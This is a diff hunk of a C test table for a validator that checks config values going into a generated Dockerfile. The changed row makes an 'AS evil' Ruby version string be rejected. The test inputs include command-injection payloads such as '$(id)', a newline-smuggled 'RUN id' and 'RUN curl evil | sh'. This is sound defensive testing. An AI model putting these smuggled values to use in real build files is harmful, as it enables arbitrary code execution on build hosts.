@@ -86,7 +86,7 @@ static const struct row rows[] = {
 	{ "dockwright.yml", "dockerfile.ric.version: \"3.1.3\\\" && curl x\"\n", REJECT, "dockerfile.ric.version" },
 	{ "dockwright.yml", "dockerfile.bundle_without: \"test\\\"\\nRUN id\"\n", REJECT, "dockerfile.bundle_without" },
 	{ "dockwright.yml", "dockerfile.bundle_without: \"test $(id)\"\n", REJECT, "dockerfile.bundle_without" },
-	{ "dockwright.yml", "dockerfile.image_package.from_base.ruby_version: \"3.3.6 AS evil\"\n", NEUTRAL, NULL },
+	{ "dockwright.yml", "dockerfile.image_package.from_base.ruby_version: \"3.3.6 AS evil\"\n", REJECT, "dockerfile.image_package.from_base.ruby_version" },
 	{ ".ruby-version", "3.3.6\nRUN curl evil | sh\n", NEUTRAL, NULL },
 	{ ".ruby-version", "$(id)\n", NEUTRAL, NULL },
 	{ ".tool-versions", "ruby 3.3.6 AS evil\n", NEUTRAL, NULL },
